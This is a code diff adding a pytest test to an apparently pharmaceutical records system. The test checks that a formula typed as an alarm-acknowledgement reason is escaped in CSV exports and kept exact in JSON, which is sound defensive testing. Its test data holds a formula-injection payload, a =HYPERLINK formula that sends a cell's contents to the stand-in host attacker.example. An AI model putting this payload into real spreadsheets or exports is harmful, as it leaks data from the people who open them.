@@ -338,3 +338,35 @@ def test_a_batch_alarm_is_not_acknowledged_as_the_stations(
     assert AlarmAcknowledgements(env.auth).alarms(sup1, None) == []
     with pytest.raises(RecordError, match=f"belongs to batch {batch_id}"):
         AlarmAcknowledgements(env.auth).acknowledge(sup1, None, alarm.alarm_id, REASON, "sup1", pw1)
+
+
+#: What a technician could type as a reason to run in the inspector's spreadsheet.
+FORMULA = '=HYPERLINK("http://attacker.example/?"&B2,"details")'
+
+
+def test_a_reason_typed_as_a_formula_is_text_in_the_csv_exports_and_exact_in_the_json(
+    env: Env, team: dict[str, tuple[str, UserSession]], catalog: Catalog, sim_devices: Any,
+    tmp_path: Path,
+) -> None:  # fmt: skip
+    from printpharm.services.records.audit_export import AuditFilter, export_audit
+
+    pw_t, tech = team["tech1"]
+    batch_id = _stopped_by_a_clog(env, tech, catalog, sim_devices)
+    (alarm,) = AlarmAcknowledgements(env.auth).alarms(tech, batch_id)
+    AlarmAcknowledgements(env.auth).acknowledge(tech, batch_id, alarm.alarm_id, FORMULA, "tech1",
+                                                pw_t)  # fmt: skip
+    _, insp = team["insp"]
+    view = BatchExportService(env.auth, env.db).view(insp, batch_id)
+    rows = list(csv.reader(io.StringIO(record_to_csv(view))))
+    (ack,) = [r for r in rows if r[0] == "alarm_ack" and r[1] == str(alarm.alarm_id)]
+    assert ack[-2] == "'" + FORMULA  # an apostrophe: the spreadsheet shows the text
+    assert not any(cell.startswith("=") for row in rows for cell in row)
+    units = [r for r in rows if r[0] == "unit"]
+    assert units[1][2] and units[1][2][0].isdigit()  # numbers are written as they are
+    (stored,) = record_to_json(view)["alarms"]
+    assert stored["acknowledgement"]["reason"] == FORMULA  # the JSON keeps it exact
+
+    export_audit(env.auth, insp, "csv", tmp_path / "trail.csv", AuditFilter(batch_id=batch_id))
+    trail = list(csv.DictReader(io.StringIO((tmp_path / "trail.csv").read_text())))
+    assert "'" + FORMULA in {r["reason"] for r in trail}
+    assert not any(v.startswith("=") for r in trail for v in r.values() if v)
